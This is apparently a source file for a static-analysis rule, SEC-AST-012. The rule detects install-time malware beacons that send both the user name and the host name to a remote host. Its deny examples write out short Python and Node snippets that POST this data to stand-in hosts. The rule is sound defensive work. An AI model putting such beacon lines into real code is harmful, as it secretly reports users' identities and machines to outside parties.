/**
 * SEC-AST-012: the user name and the host name sent together to a network host: the beacon of
 * dependency-confusion and install-hook malware (issue 22), which reports who and where it ran.
 * Either one alone (a hostname in telemetry, a user name in a greeting) is everyday data.
 */
import type { DataSource } from '../../facts.js';
import { classifyHost, isLoopbackLike } from '../../net/address.js';
import type { Span } from '../../types.js';
import { defineRule } from '../define-rule.js';

const USER_PROGRAMS = new Set(['whoami', 'id', 'logname', 'users']);
const HOST_PROGRAMS = new Set(['hostname', 'uname', 'hostnamectl']);
const USER_VARS = new Set(['USER', 'USERNAME', 'LOGNAME']);
const HOST_VARS = new Set(['HOSTNAME', 'COMPUTERNAME', 'HOST']);

function fingerprint(s: DataSource): 'user' | 'host' | null {
  if (s.kind === 'output')
    return USER_PROGRAMS.has(s.program) ? 'user' : HOST_PROGRAMS.has(s.program) ? 'host' : null;
  if (s.kind === 'env' && s.name !== undefined)
    return USER_VARS.has(s.name) ? 'user' : HOST_VARS.has(s.name) ? 'host' : null;
  return null;
}

export default defineRule({
  id: 'SEC-AST-012',
  invariant: 'NO_SECRET_EXFILTRATION',
  kinds: ['flow'],
  summary: 'The user name and the host name sent together to a network host (an install-time beacon).',
  remediationHint:
    'Do not report who runs the code and on which machine to a remote host. Send only the data the task needs; telemetry should use an anonymous identifier.',
  *check(facts) {
    const bySink = new Map<string, { span: Span; kinds: Set<string> }>();
    for (const f of facts.of('flow')) {
      if (f.to.kind !== 'net' || isLoopbackLike(classifyHost(f.to.host))) continue;
      const kind = fingerprint(f.from);
      if (kind === null) continue;
      const key = `${f.to.host}@${f.span.start}`;
      const entry = bySink.get(key) ?? { span: f.span, kinds: new Set<string>() };
      entry.kinds.add(kind);
      bySink.set(key, entry);
    }
    for (const [key, e] of bySink) {
      if (e.kinds.size < 2) continue;
      yield {
        span: e.span,
        reason: `the user name and the host name are sent to ${key.slice(0, key.lastIndexOf('@'))}`,
        suggestedAlternative: null,
      };
    }
  },
  examples: {
    deny: [
      {
        input:
          'import getpass, socket, requests\nrequests.post("https://x.example/c", json={"u": getpass.getuser(), "h": socket.gethostname()})',
        runtime: 'python',
      },
      {
        input:
          "const os = require('os');\nfetch('https://203.0.113.9/b', { method: 'POST', body: JSON.stringify({ u: os.userInfo().username, h: os.hostname() }) });",
        runtime: 'node',
      },
    ],
    allow: [
      {
        input:
          'import socket, requests\nrequests.post("https://metrics.example/m", json={"host": socket.gethostname(), "up": 1})',
        runtime: 'python',
        why: 'a host name alone is ordinary telemetry',
      },
      {
        input:
          "const os = require('os');\nfetch('http://localhost:3000/hello', { method: 'POST', body: os.userInfo().username + '@' + os.hostname() });",
        runtime: 'node',
        why: 'sent to loopback',
      },
    ],
  },
});
